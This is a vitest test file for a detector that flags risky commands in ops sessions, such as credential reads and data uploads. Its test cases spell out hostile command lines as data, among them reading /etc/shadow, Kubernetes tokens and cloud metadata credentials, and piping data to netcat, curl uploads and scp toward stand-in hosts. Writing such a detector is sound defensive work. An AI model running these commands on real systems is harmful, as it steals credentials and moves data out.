import { describe, expect, it } from "vitest";
import { sessionRisks } from "./session-risk.ts";

describe("sessionRisks", () => {
  it("finds credential reads in any command line, also inside a shell's -c", () => {
    expect(sessionRisks("/usr/bin/cat", "/etc/shadow")).toEqual(["reads the password hashes (/etc/shadow)"]);
    expect(sessionRisks("/bin/sh", '-c "cd / && head etc/gshadow"')).toEqual(["reads the password hashes (etc/gshadow)"]);
    expect(sessionRisks("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")).toEqual([
      "reads the pod's service-account token (/secrets/kubernetes.io/serviceaccount)",
    ]);
    expect(sessionRisks("/usr/bin/curl", "-s http://169.254.169.254/latest/meta-data/iam/security-credentials/")).toEqual([
      "reads cloud instance metadata (node credentials) (169.254.169.254)",
    ]);
    expect(sessionRisks("/usr/bin/wget", "-qO- http://metadata.google.internal/computeMetadata/v1/")).toHaveLength(1);
    expect(sessionRisks("/bin/cat", "/root/.aws/credentials")).toEqual(["reads cloud credentials (.aws/credentials)"]);
  });

  it("finds uploads and raw connections, by the tool that runs and its options", () => {
    expect(sessionRisks("/usr/bin/curl", "-s -T /etc/shadow https://203.0.113.50/u")).toEqual([
      "reads the password hashes (/etc/shadow)",
      "moves data out (curl -T)",
    ]);
    expect(sessionRisks("/usr/bin/curl", "-sT dump.sql https://x")).toEqual(["moves data out (curl -T)"]);
    expect(sessionRisks("/usr/bin/curl", "--upload-file dump.sql https://x")).toEqual(["moves data out (curl --upload-file)"]);
    expect(sessionRisks("/usr/bin/curl", "-d @dump.sql https://x")).toEqual(["moves data out (curl -d @file)"]);
    expect(sessionRisks("/usr/bin/curl", "--data-binary=@dump.sql https://x")).toEqual(["moves data out (curl --data-binary)"]);
    expect(sessionRisks("/usr/bin/curl", "-F file=@dump.sql https://x")).toEqual(["moves data out (curl -F)"]);
    expect(sessionRisks("/usr/bin/wget", "--post-file=dump.sql https://x")).toEqual(["moves data out (wget --post-file)"]);
    expect(sessionRisks("/usr/bin/nc", "203.0.113.5 4444")).toEqual(["moves data out (nc)"]);
    expect(sessionRisks("/usr/bin/socat", "- TCP:203.0.113.5:4444")).toEqual(["moves data out (socat)"]);
    expect(sessionRisks("/usr/bin/scp", "dump.sql me@203.0.113.5:")).toEqual(["moves data out (scp)"]);
    expect(sessionRisks("/usr/bin/rsync", "-a /data backup@203.0.113.5:/srv")).toEqual(["moves data out (rsync to a remote host)"]);
    expect(sessionRisks("/bin/sh", '-c "tar c /data | nc 203.0.113.5 4444"')).toEqual(["moves data out (nc)"]);
    expect(sessionRisks("/usr/bin/env", "HTTPS_PROXY=x curl -T a https://x")).toEqual(["moves data out (curl -T)"]);
  });

  it("leaves ordinary operations work alone", () => {
    for (const [binary, args] of [
      ["/bin/sh", ""],
      ["/bin/ls", "-la /etc"],
      ["/usr/bin/curl", "-sf http://localhost:8080/healthz"],
      ["/usr/bin/curl", "-d '{\"a\":1}' http://localhost:8080/api"],
      ["/usr/bin/curl", "-o /tmp/x https://example.com"],
      ["/usr/bin/wget", "-q https://example.com/file"],
      ["/usr/bin/rsync", "-a /data /backup"],
      ["/bin/grep", "nc /etc/services"],
      // Checks and calls that stay in the pod: a port check sends no data, localhost is the pod itself.
      ["/usr/bin/nc", "-zv postgres.bank.svc 5432"],
      ["/usr/bin/nc", "localhost 8080"],
      ["/usr/bin/curl", "-d @payload.json http://localhost:8080/api/reindex"],
      ["/usr/bin/curl", "-F file=@x.csv http://127.0.0.1:9000/import"],
      ["/usr/bin/psql", "-c 'select 1'"],
    ] as const) {
      expect(sessionRisks(binary, args), `${binary} ${args}`).toEqual([]);
    }
  });
});
